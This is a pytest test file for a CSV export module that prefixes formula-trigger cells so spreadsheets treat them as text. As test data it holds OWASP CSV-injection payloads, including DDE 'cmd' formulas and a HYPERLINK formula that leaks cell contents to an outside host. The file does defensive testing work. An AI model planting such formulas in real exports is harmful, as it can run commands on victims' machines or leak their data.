"""Tests for cprstats.io.spreadsheet: no text cell cprstats writes can run as a spreadsheet formula.

Reference values: the formula trigger characters (= + - @ tab, carriage return) and the
single-quote prefix come from the OWASP "CSV Injection" page
(https://owasp.org/www-community/attacks/CSV_Injection); the null character from OWASP ASVS
5.0 requirement 1.2.10 ("special characters (including '=', '+', '-', '@', '\\t' (tab), and
'\\0' (null character)) must be escaped with a single quote"). The payloads are the classic
examples of that attack (the DDE ``=cmd|' /C calc'!A0`` and HYPERLINK leaks) from the OWASP
page. The UTF-8 byte-order mark EF BB BF is from the Unicode Standard, section 23.8
("Byte Order Mark").
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

import cprstats.io.spreadsheet as neutralise
from cprstats.errors import ParameterError

# OWASP CSV Injection page, "Attack" examples
OWASP_PAYLOADS = [
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


def test_write_csv_interrupted_mid_write_leaves_old_file(tmp_path, monkeypatch):
    target = tmp_path / "coded.csv"
    neutralise.write_csv(pd.DataFrame({"a": [1]}), target)
    before = target.read_bytes()

    def interrupted(self, path, **kw):
        with open(path, "w") as fh:
            fh.write("a\n1\n2")  # half written
        raise KeyboardInterrupt

    monkeypatch.setattr(pd.DataFrame, "to_csv", interrupted)
    with pytest.raises(KeyboardInterrupt):
        neutralise.write_csv(pd.DataFrame({"a": range(1000)}), target)
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["coded.csv"]


# ------------------------------------------------------------------ neutralising
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_are_prefixed(payload):
    assert neutralise.needs_neutralising(payload)
    out = neutralise.neutralise_formulas(pd.DataFrame({"x": [payload]}))
    assert out["x"].iloc[0] == "'" + payload


@pytest.mark.parametrize("value", ["-3", "+44", "-1.5", "+.5", "-2e3", "3", "ok", "Ynys Môn", "", "a=b", "'=x"])
def test_harmless_text_is_unchanged(value):
    # plain numbers cannot carry a formula (module notes); text not starting with a trigger is safe
    assert not neutralise.needs_neutralising(value)
    assert neutralise.neutralise_formulas(pd.DataFrame({"x": [value]}))["x"].iloc[0] == value


def test_numbers_booleans_periods_and_missing_are_untouched():
    df = pd.DataFrame(
        {
            "n": [-3, 2],
            "f": [-0.25, np.nan],
            "i": pd.array([-1, None], dtype="Int64"),
            "b": pd.array([True, None], dtype="boolean"),
            "p": pd.period_range("2020-03", periods=2, freq="M"),
            "s": pd.array(["=1", None], dtype="string"),
        }
    )
    out = neutralise.neutralise_formulas(df)
    pd.testing.assert_frame_equal(out.drop(columns="s"), df.drop(columns="s"))
    assert out["s"].iloc[0] == "'=1" and pd.isna(out["s"].iloc[1])
    assert df["s"].iloc[0] == "=1"  # the input is not modified


def test_categorical_and_column_names_are_neutralised():
    df = pd.DataFrame({"=bad": pd.Categorical(["@x", "y"]), "ok": pd.Categorical(["a", "b"])})
    out = neutralise.neutralise_formulas(df)
    assert list(out.columns) == ["'=bad", "ok"]
    assert out["'=bad"].tolist() == ["'@x", "y"]
    assert isinstance(out["ok"].dtype, pd.CategoricalDtype)  # untouched when not needed


def test_neutralise_rejects_non_frames():
    with pytest.raises(ParameterError, match="df must be a pandas DataFrame"):
        neutralise.neutralise_formulas([["=1"]])


def test_escape_html():
    assert neutralise.escape_html("<b>O'Neil & co</b>") == "&lt;b&gt;O&#x27;Neil &amp; co&lt;/b&gt;"
    assert neutralise.escape_html(None) == "" and neutralise.escape_html(np.nan) == ""
    assert neutralise.escape_html(3) == "3"


# ------------------------------------------------------------------ CSV
def test_write_csv_bytes_bom_lf_and_prefix(tmp_path):
    df = pd.DataFrame({"la": ["Ynys Môn", "=cmd|' /C calc'!A0"], "n": [-3, 4]})
    p = neutralise.write_csv(df, tmp_path / "t.csv")
    raw = p.read_bytes()
    # EF BB BF: the UTF-8 byte-order mark (Unicode Standard §23.8); Môn is M C3 B4 n in UTF-8
    assert raw == b"\xef\xbb\xbfla,n\nYnys M\xc3\xb4n,-3\n'=cmd|' /C calc'!A0,4\n"


def test_write_csv_can_skip_neutralising_and_roundtrips(tmp_path):
    df = pd.DataFrame({"a": ["=x", "ŵ"], "b": [1.25, -2.0]})
    p = neutralise.write_csv(df, tmp_path / "t.csv", neutralise=False)
    back = pd.read_csv(p, encoding="utf-8-sig")
    assert back["a"].tolist() == ["=x", "ŵ"] and back["b"].tolist() == [1.25, -2.0]
